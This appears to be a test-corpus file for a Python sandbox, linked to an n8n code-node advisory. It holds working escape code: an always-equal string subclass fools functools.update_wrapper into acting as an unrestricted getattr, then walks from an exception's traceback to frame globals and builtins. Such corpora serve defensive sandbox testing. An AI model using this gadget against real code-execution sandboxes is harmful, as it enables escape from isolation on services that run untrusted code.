# technique: an exception's __traceback__ -> tb_frame -> f_back -> f_globals/f_builtins through the update_wrapper gadget (no internal name in code)
# source: n8n Python code node advisory class: exception traceback -> frame -> globals
# note: f_back of the module frame is None in plain CPython, the runner's frame in a sandbox

# ---- escape check: tests/corpus/escape_check.py, put here by run_corpus.py ----

import dataclasses, functools


class S(str):
    """A str whose equality says yes to anything: the name checks of the
    update_wrapper guard compare names with ==."""
    def __eq__(self, other):
        return True

    def __hash__(self):
        return str.__hash__(self)


got = []


def cap(self, k, v):
    got.append(v)

Sink = dataclasses.make_dataclass('Sink', [], namespace={dn('setattr'): cap})


def ga(obj, name):
    """getattr(obj, name) through functools.update_wrapper."""
    got.clear()
    functools.update_wrapper(Sink(), obj, assigned=(S(name),), updated=())
    if not got:
        raise AttributeError(name)
    return got[0]


try:
    1 / 0
except ZeroDivisionError as e:
    err = e

attempt('tb_frame', lambda: ga(ga(err, dn('traceback')), 'tb_frame'))
attempt('tb_frame.f_builtins', lambda: ga(ga(ga(err, dn('traceback')), 'tb_frame'), 'f_builtins'))
attempt('tb_frame.f_back.f_globals',
        lambda: ga(ga(ga(ga(err, dn('traceback')), 'tb_frame'), 'f_back'), 'f_globals'))
